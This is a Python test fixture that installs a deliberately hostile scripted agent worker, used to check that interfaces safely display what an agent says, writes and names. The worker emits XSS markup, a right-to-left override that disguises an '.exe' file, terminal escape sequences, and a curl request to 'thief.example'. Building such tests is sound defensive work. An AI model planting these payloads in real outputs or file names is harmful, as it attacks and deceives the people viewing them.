"""A worker that attacks the people who watch it, with every text it may choose; needs no model."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

MARKUP = '<img src=x onerror="window.hit=1">'
"""Runs if it is taken for markup."""
ESCAPES = "\u202egnp.exe\x1b[31m\u200b"
"""Turns text round, colours it and hides some of it."""
SHOWN_ESCAPES = r"\u202egnp.exe\x1b[31m\u200b"
FILE = MARKUP.replace("/", "") + ESCAPES
FILE_SHOWN = MARKUP.replace("/", "") + SHOWN_ESCAPES
REQUEST = "thief.example/&lt;img/src=x/onerror=window.hit=1&gt;';window.hit=1;'"
"""As much markup as a path may hold."""
SAYS = "says.txt"
DELIVERED = "<b onclick=window.hit=1>.json"
TEMPLATE = """
title = "Hostile"
text = "Attacks whoever watches."

[[values]]
name = "whom"
title = "Whom?"
"""
BRIEF = f"""
goal = "Greet {{whom}}."
seconds = 240
egress = ["GET https://friend.example/*"]

[[deliverables]]
path = "{DELIVERED}"
check = "json"
expect = {{required = ["<i>hello"]}}
"""
BRAIN = f'''"""A worker that attacks whoever watches it."""

from hotdesk.brain.models.scripted import Hands, step

MARKUP, ESCAPES, REQUEST = {MARKUP!r}, {ESCAPES!r}, {REQUEST!r}


async def attack(hands: Hands):
    """Write it everywhere."""
    hands.say(MARKUP + ESCAPES)
    await hands.run(["touch", {FILE!r}])
    await hands.write({SAYS!r}, (MARKUP + ESCAPES + "\\x1b]0;" + MARKUP + "\\x07").encode())
    await hands.run(["curl", "--silent", "--max-time", "10", "--globoff", "http://" + REQUEST])
    await hands.ask(MARKUP + ESCAPES)
    await hands.write({DELIVERED!r}, b'{{"<i>hello": "<b>"}}')


PLAN = (step(attack, intent="Attack. " + MARKUP, makes=[{DELIVERED!r}]),)
'''


def install(templates: Path, name: str = "hostile") -> None:
    folder = templates / name
    folder.mkdir(parents=True)
    for file, text in (("template.toml", TEMPLATE), ("brief.toml", BRIEF), ("brain.py", BRAIN)):
        (folder / file).write_text(text)


@contextmanager
def elsewhere(page: str) -> Iterator[str]:
    """Serve a foreign page on loopback; yield its address."""

    class Answers(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, format: str, *args: object) -> None:
            """Log nothing."""

    with HTTPServer(("127.0.0.1", 0), Answers) as running:
        serving = threading.Thread(target=running.serve_forever)
        serving.start()
        try:
            yield f"http://127.0.0.1:{running.server_port}/"
        finally:
            running.shutdown()
            serving.join()
